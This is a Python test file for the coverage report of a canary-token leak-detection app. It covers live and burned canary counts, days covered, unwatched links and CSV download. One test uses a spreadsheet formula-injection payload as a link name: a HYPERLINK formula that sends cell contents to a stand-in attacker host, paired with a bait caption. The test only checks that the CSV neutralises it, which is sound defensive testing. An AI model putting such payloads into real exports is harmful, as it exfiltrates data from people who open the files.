"""The coverage report: per link, live canaries, days covered, last plant, sightings, and the
links never tested; its CSV is safe to open in a spreadsheet."""

import csv
import io
import random
import uuid
from datetime import UTC, datetime, timedelta

from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlmodel import Session, col, select

from app.auth.actor import Actor
from app.coverage.report import CSV_COLUMNS, coverage_csv, coverage_report, coverage_summary
from app.links.service import deactivate_link
from app.models.canaries import Canary, Plant, PlantChannel
from app.models.keys import Role
from app.models.links import Link
from app.models.sightings import Sighting, SightingSource
from app.planting.service import burn_canary, mint_canaries
from attribution.kinds import LinkKind
from tests.conftest import KeyFactory, LinkFactory

NOW = datetime(2026, 6, 30, 12, tzinfo=UTC)
DAY = timedelta(days=1)


def _plant(session: Session, link: Link, count: int, seed: int) -> list[uuid.UUID]:
    result = mint_canaries(
        session, Actor.cli(), link.id, count, PlantChannel.CLI, rng=random.Random(seed)
    )
    return [c.id for c in result.planted if not c.control]


def _planted_at(session: Session, ids: list[uuid.UUID], when: datetime) -> None:
    session.connection().execute(
        update(Plant).where(col(Plant.canary_id).in_(ids)).values(planted_at=when)
    )


def _retired_at(session: Session, canary_id: uuid.UUID, when: datetime) -> None:
    session.connection().execute(
        update(Canary).where(col(Canary.id) == canary_id).values(retired_at=when)
    )


def _sighting(session: Session, canary_id: uuid.UUID, link: Link, *, control: bool) -> None:
    session.add(
        Sighting(
            canary_id=canary_id,
            link_id=link.id,
            control=control,
            source=SightingSource.REPORT,
            dedup_key=uuid.uuid4().hex,
            score=40.0,
            excerpt="",
        )
    )
    session.flush()


def test_each_link_s_line_counts_its_canaries_and_the_days_they_were_live(
    session: Session, make_link: LinkFactory
) -> None:
    head = make_link("总部", kind=LinkKind.HEAD_OFFICE, region="330000")
    region = make_link("杭州区域", kind=LinkKind.REGION, parent=head, region="330100")
    west = make_link("西湖网点", parent=region, region="330106")
    quiet = make_link("余杭网点", parent=region, region="330110")
    first, second = _plant(session, west, 2, 1), _plant(session, west, 1, 2)
    # Two canaries from day 0, burned on day 10 and day 20; a gap; a third from day 30.
    _planted_at(session, first, NOW - 60 * DAY)
    _planted_at(session, second, NOW - 30 * DAY)
    for canary_id, burned_on in zip(first, (50, 40), strict=True):
        burn_canary(session, Actor.cli(), canary_id, "seen", replace=False)
        _retired_at(session, canary_id, NOW - burned_on * DAY)
    _sighting(session, first[0], west, control=False)
    _sighting(session, first[1], west, control=False)
    # Twenty canaries come with one control (5%), minted for the link and never planted:
    # its sighting is noise or a leak inside honeytrace, not the link's.
    centre = make_link("呼叫中心", kind=LinkKind.CALL_CENTRE, region="330000")
    _plant(session, centre, 20, 3)
    control = session.exec(
        select(Canary.id).where(Canary.link_id == centre.id, col(Canary.control).is_(True))
    ).one()
    _sighting(session, control, centre, control=True)
    session.commit()

    report = coverage_report(session, now=NOW)
    assert [(row.name, row.depth) for row in report] == [
        ("呼叫中心", 0),
        ("总部", 0),
        ("杭州区域", 1),
        ("余杭网点", 2),
        ("西湖网点", 2),
    ]
    line = {row.link_id: row for row in report}
    mine = line[west.id]
    assert (mine.live, mine.burned, mine.planted, mine.waiting) == (1, 2, 3, 0)
    assert mine.days_covered == 50.0  # days 0-20 and 30-60: the gap is not coverage
    assert mine.first_planted_at == NOW - 60 * DAY and mine.last_planted_at == NOW - 30 * DAY
    assert mine.last_minted_at is not None
    assert mine.sightings == 2 and mine.incidents == 0
    assert not mine.never_tested
    assert line[quiet.id].never_tested and line[quiet.id].days_covered == 0
    assert line[quiet.id].live == line[quiet.id].live_below == 0
    # The region and the head office read the outlet's data: its live canary watches them too.
    assert (line[region.id].live, line[region.id].live_below) == (0, 1)
    assert line[head.id].live_below == 1 and line[head.id].never_tested
    assert (line[centre.id].live, line[centre.id].sightings) == (20, 0)


def test_the_summary_names_the_active_links_without_live_canaries(
    session: Session, make_link: LinkFactory
) -> None:
    watched = make_link("拱墅网点", region="330105")
    unwatched = make_link("滨江网点", region="330108")
    gone = make_link("已关闭网点", region="330108")
    deactivate_link(session, Actor.cli(), gone.id)
    burned = _plant(session, watched, 2, 3)[0]
    burn_canary(session, Actor.cli(), burned, "seen")
    session.commit()
    summary = coverage_summary(session)
    assert [link.id for link in summary.unwatched] == [unwatched.id]  # not the closed one
    assert (summary.active_links, summary.watched, summary.unwatched_total) == (2, 1, 1)
    assert summary.burned == 1


def test_the_csv_cannot_run_a_formula_in_a_spreadsheet(
    session: Session, make_link: LinkFactory
) -> None:
    evil = make_link('=HYPERLINK("http://evil.example/?"&A1,"点击领取赔偿")')
    plus = make_link("+86 网点")
    _plant(session, evil, 1, 4)
    session.commit()
    rows = list(csv.DictReader(io.StringIO(coverage_csv(coverage_report(session)))))
    assert tuple(rows[0]) == CSV_COLUMNS
    names = {row["link_id"]: row["name"] for row in rows}
    assert names[str(evil.id)] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击领取赔偿")'
    assert names[str(plus.id)] == "'+86 网点"
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_download_needs_a_session_and_is_the_report(
    client: TestClient, make_key: KeyFactory, make_link: LinkFactory
) -> None:
    link = make_link("=1+1")
    assert client.get("/coverage.csv", follow_redirects=False).status_code == 303
    form = client.get("/signin").text
    token = form.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
    signed_in = client.post(
        "/signin",
        data={"api_key": make_key(Role.INVESTIGATOR), "csrf_token": token},
        follow_redirects=False,
    )
    assert signed_in.status_code == 303
    response = client.get("/coverage.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["cache-control"] == "no-store"
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # so spreadsheet programs read the names as UTF-8
    rows = {row["link_id"]: row for row in csv.DictReader(io.StringIO(text.lstrip("\ufeff")))}
    assert rows[str(link.id)]["name"] == "'=1+1"
    assert rows[str(link.id)]["never_tested"] == "true"
